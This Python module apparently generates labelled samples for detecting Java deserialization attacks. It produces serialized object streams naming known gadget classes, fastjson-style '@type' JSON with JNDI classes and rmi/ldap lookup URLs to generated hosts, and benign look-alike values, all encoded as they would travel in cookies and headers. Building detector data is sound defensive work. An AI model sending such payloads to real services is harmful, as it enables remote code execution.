"""Java object streams (Object Serialization Stream Protocol) and the text formats that name Java classes. Twins are other binary values in the same clothes."""

import base64
import gzip
import json
import struct
import urllib.parse
import zlib

from . import grammar, lexicon, places

GADGETS = ("java.util.HashMap", "java.util.PriorityQueue", "java.util.HashSet", "java.util.LinkedHashSet", "java.util.Hashtable", "java.util.ArrayList", "sun.reflect.annotation.AnnotationInvocationHandler", "javax.management.BadAttributeValueExpException", "org.apache.commons.collections.map.LazyMap",
           "org.apache.commons.collections.functors.InvokerTransformer", "org.apache.commons.collections.keyvalue.TiedMapEntry", "org.apache.commons.collections4.comparators.TransformingComparator", "org.apache.commons.beanutils.BeanComparator", "org.codehaus.groovy.runtime.MethodClosure", "org.springframework.aop.framework.AdvisedSupport",
           "org.hibernate.engine.spi.TypedValue", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "java.rmi.server.RemoteObjectInvocationHandler", "java.rmi.server.UnicastRemoteObject", "java.net.URL", "java.lang.ProcessBuilder", "java.lang.Runtime", "com.mchange.v2.c3p0.PoolBackedDataSource", "clojure.core$comp", "java.security.SignedObject",
           "org.jboss.interceptor.proxy.InterceptorMethodHandler", "com.vaadin.data.util.PropertysetItem", "org.python.core.PyFunction", "bsh.XThis", "rome.feed.impl.ObjectBean", "java.lang.Integer", "javax.swing.JEditorPane", "java.io.File", "java.util.Date")
NAMED = ("com.sun.rowset.JdbcRowSetImpl", "java.lang.ProcessBuilder", "java.lang.Runtime", "javax.script.ScriptEngineManager", "java.net.URLClassLoader", "java.lang.AutoCloseable", "java.lang.Class", "java.net.Inet4Address", "java.net.InetSocketAddress", "org.apache.tomcat.dbcp.dbcp2.BasicDataSource", "ch.qos.logback.core.db.DriverManagerConnectionSource",
         "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "org.springframework.context.support.ClassPathXmlApplicationContext", "com.zaxxer.hikari.HikariConfig", "org.apache.xbean.propertyeditor.JndiConverter", "org.apache.shiro.jndi.JndiObjectFactory", "com.mchange.v2.c3p0.JndiRefForwardingDataSource", "javax.naming.InitialContext", "javax.management.BadAttributeValueExpException", "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory", "br.com.anteros.dbcp.AnterosDBCPConfig", "java.io.FileOutputStream", "java.beans.EventHandler", "oracle.jdbc.connector.OracleManagedConnectionFactory")


def utf(text):
    raw = text.encode()
    return struct.pack(">H", len(raw)) + raw


def descriptor(rng, name):
    names = [lexicon.ident(rng) for _ in range(rng.randint(0, 3))]
    out = b"\x72" + utf(name) + struct.pack(">Q", rng.getrandbits(64)) + bytes([rng.choice((2, 2, 3))]) + struct.pack(">H", len(names))
    for field in names:
        kind = rng.choice("IJZFL[")
        out += kind.encode() + utf(field)
        if kind == "L":
            out += b"\x74" + utf("L" + rng.choice(("java/lang/String", "java/util/Map", "java/lang/Object", "java/util/Comparator")) + ";")
        elif kind == "[":
            out += b"\x74" + utf("[Ljava/lang/Object;")
    return out + b"\x78\x70"


def stream(rng):
    """An object stream: magic, version, one object with strings and further objects in it."""
    out = b"\xac\xed\x00\x05"
    if rng.random() < 0.06:
        return out + b"\x77" + bytes([rng.randint(4, 40)]) + bytes(rng.getrandbits(8) for _ in range(rng.randint(4, 40)))
    for _ in range(rng.choice((1, 1, 2, 3))):
        name = rng.choice(GADGETS) if rng.random() < 0.7 else f"{rng.choice(('com', 'org', 'net'))}.{lexicon.word(rng)}.{lexicon.ident(rng).title()}"
        out += rng.choice((b"\x73", b"\x73", b"\x75")) + descriptor(rng, name) + bytes(rng.getrandbits(8) for _ in range(rng.choice((0, 4, 8))))
        if rng.random() < 0.7:
            out += b"\x74" + utf(grammar.load("common").expand("unixcmd0", rng) if rng.random() < 0.6 else lexicon.word(rng))
    return out + b"\x78"


def written(raw, rng):
    """The bytes as text: Base64 in its alphabets, hex, or compressed first."""
    draw = rng.random()
    if draw < 0.55:
        return base64.b64encode(raw).decode()
    if draw < 0.65:
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")
    if draw < 0.78:
        return base64.b64encode(gzip.compress(raw, rng.randint(1, 9), mtime=0)).decode()
    if draw < 0.84:
        return base64.b64encode(zlib.compress(raw)).decode()
    return raw.hex() if rng.random() < 0.6 else raw.hex().upper()


def dressed(raw, rng):
    """Bytes as they travel in cookies, fields and headers: Base64 with or without padding, line ends, prefixes, within JSON, twice, signed, or compressed. The same for attacks and twins."""
    draw = rng.random()
    if draw < 0.5:
        text = base64.b64encode(raw).decode()
    elif draw < 0.6:
        text = base64.urlsafe_b64encode(raw).decode()
    elif draw < 0.68:
        text = base64.b64encode(raw).decode().rstrip("=")
    elif draw < 0.74:
        text = urllib.parse.quote(base64.b64encode(raw).decode(), safe="")
    elif draw < 0.78:
        return base64.b64encode(base64.b64encode(raw)).decode()
    elif draw < 0.82:
        text = base64.encodebytes(raw).decode().replace("\n", rng.choice(("\n", "\r\n", "\n ", " "))).strip()
    elif draw < 0.85:
        return base64.b32encode(raw).decode()
    else:
        return written(raw, rng)
    draw = rng.random()
    if draw < 0.68:
        return text
    if draw < 0.74:
        return json.dumps({**({lexicon.ident(rng): lexicon.word(rng)} if rng.random() < 0.5 else {}), rng.choice(("data", "state", "session", "object", "payload", "value", "blob", "body", lexicon.ident(rng))): text})
    if draw < 0.8:
        return f"{rng.choice(('data:application/octet-stream;base64,', 'data:;base64,', 'base64,', 'base64:', 'b64:', 'Bearer ', 'Basic ', 'v1.', 's:', '!', '$', 'x'))}{text}"
    if draw < 0.88:
        return f"{text}{rng.choice(('--', '.', '|', ':', '!', '%7C', '--'))}{lexicon.hextoken(rng)}"
    if draw < 0.92:
        return f"{lexicon.ident(rng)}={text}{rng.choice(('', ';', '&' + lexicon.ident(rng) + '=' + lexicon.word(rng), '; Path=/'))}"
    if draw < 0.95:
        return f'"{text}"'
    if draw < 0.98:
        return f"<{(name := lexicon.word(rng))}>{text}</{name}>"
    return f"{lexicon.word(rng)}: {text}"


def xstream(rng):
    return grammar.load("java").expand("xmlobject", rng)


def typed(rng):
    """JSON that names its own class: fastjson, Jackson, Json-io, Genson."""
    key = rng.choice(("@type", "@type", "@type", "@class", "class", "$type", "@c", "\\u0040type", "@\\u0074ype", "type"))
    name = rng.choice(NAMED)
    if rng.random() < 0.08:
        name = rng.choice(("L" + name + ";", "LL" + name + ";;", "[" + name + "[{"))
    url = f"{rng.choice(('rmi', 'ldap', 'ldap', 'ldaps', 'http', 'dns', 'iiop'))}://{lexicon.hostport(rng)}/{lexicon.word(rng)}"
    inner = {rng.choice(("dataSourceName", "jndiName", "metricRegistry", "resourceName", "healthCheckRegistry", "userOverridesAsString", "val", "url", "driverClassName", "asText", "bytecodes", "_name", "address", "autoCommit", lexicon.ident(rng))): rng.choice((url, url, True, lexicon.word(rng))) for _ in range(rng.randint(1, 3))}
    draw = rng.random()
    if draw < 0.6:
        document = {key: name, **inner}
    elif draw < 0.8:
        return json.dumps([name, inner if rng.random() < 0.7 else url])
    else:
        document = {lexicon.word(rng): {key: "java.lang.Class", "val": name}, lexicon.word(rng): {key: name, **inner}}
    for _ in range(rng.choice((0, 0, 1, 2))):
        document = {lexicon.ident(rng): document}
    return json.dumps(document).replace("\\\\u00", "\\u00")


def value(attack, rng):
    draw = rng.random()
    if attack:
        if draw < 0.5:
            return written(stream(rng), rng)
        if draw < 0.7:
            return typed(rng)
        if draw < 0.85:
            return xstream(rng)
        return grammar.load("java").expand("yaml", rng)
    return twin(rng)


def jwt(rng):
    part = lambda d: base64.urlsafe_b64encode(json.dumps(d, separators=(",", ":")).encode()).decode().rstrip("=")
    return f"{part({'alg': rng.choice(('HS256', 'RS256', 'ES256')), 'typ': 'JWT'})}.{part({'sub': lexicon.uuid(rng), 'name': lexicon.name(rng), 'iat': rng.randint(1500000000, 1900000000)})}.{base64.urlsafe_b64encode(bytes(rng.getrandbits(8) for _ in range(32))).decode().rstrip('=')}"


def blob(rng):
    """Bytes that are no object: an image's, a PDF's, a ZIP's beginning, ciphertext, text, JSON."""
    noise = bytes(rng.getrandbits(8) for _ in range(rng.randint(12, 200)))
    common = grammar.load("common")
    return rng.choice((lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise, lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + noise, lambda: b"GIF89a" + noise, lambda: b"%PDF-1.7\n" + noise, lambda: b"RIFF" + noise[:4] + b"WEBPVP8 " + noise,
                       lambda: common.expand("prose", rng).encode(), lambda: json.dumps({lexicon.ident(rng): lexicon.word(rng), lexicon.ident(rng): rng.randint(0, 9999)}).encode(), lambda: noise, lambda: b"\x0a" + bytes([rng.randint(1, 60)]) + noise))()


def twin(rng):
    draw = rng.random()
    common = grammar.load("common")
    if draw < 0.22:
        return jwt(rng)
    if draw < 0.5:
        return written(blob(rng), rng)
    if draw < 0.58:
        return json.dumps({"@type": rng.choice(("Product", "Article", "Person", "BreadcrumbList", "Organization", "Event")), "@context": "https://schema.org", "name": common.expand("prose", rng), "sku": lexicon.token(rng)})
    if draw < 0.66:
        return json.dumps({"type": lexicon.ident(rng), "class": f"{lexicon.word(rng)} btn-{lexicon.word(rng)}", "id": rng.randint(0, 9999)})
    if draw < 0.74:
        return "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(rng.getrandbits(8) for _ in range(rng.randint(20, 150)))).decode()
    if draw < 0.9:
        return grammar.load("java").expand("twin", rng)
    return lexicon.hextoken(rng)


def put(attack, carrier, rng):
    """Raw streams as whole bodies and files."""
    if rng.random() > 0.2 or (places.has_body(carrier) and rng.random() < 0.6):
        return ""
    raw = stream(rng) if attack else blob(rng)
    if rng.random() < 0.2:
        raw = gzip.compress(raw, mtime=0)
    if rng.random() < 0.65:
        kind = "application/x-java-serialized-object" if attack and rng.random() < 0.4 else rng.choice(("application/octet-stream", "application/octet-stream", "application/x-protobuf", "application/x-www-form-urlencoded", ""))
        places.give(carrier, kind, raw, rng)
        return "raw"
    places.multipart_body(carrier, places.form_parts(rng, 2) + [(f'name="{lexicon.word(rng)}"; filename="{lexicon.word(rng)}.{rng.choice(("bin", "ser", "dat", "png"))}"', "application/octet-stream", raw)], rng)
    return "multipart"
